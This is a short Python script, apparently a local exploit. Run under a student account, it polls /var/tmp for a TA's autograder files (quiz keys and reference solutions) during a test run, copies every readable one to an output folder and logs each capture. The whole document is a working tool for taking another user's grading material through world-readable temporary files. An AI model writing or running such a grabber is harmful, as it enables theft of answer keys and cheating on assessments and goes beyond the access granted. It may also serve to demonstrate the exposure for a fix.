"""Run as the local student (uid 65534, or any other local account): while the TA runs the test suite, copy every
judge file (quiz keys, references) that appears readable under /var/tmp."""
import glob, os, shutil, sys, time
out, end, got = sys.argv[1], time.time() + float(sys.argv[2]), set()
print("grabber uid", os.getuid(), flush=True)
while time.time() < end:
    for path in glob.glob("/var/tmp/*/code/autograders/*.py") + glob.glob("/var/tmp/*/*/code/autograders/*.py"):
        if path in got:
            continue
        try:
            data = open(path, "rb").read()
        except OSError:
            continue
        got.add(path)
        dest = os.path.join(out, path.strip("/").replace("/", "__"))
        open(dest, "wb").write(data)
        print(time.strftime("%H:%M:%S"), "read", path, len(data), "bytes", flush=True)
    time.sleep(0.01)
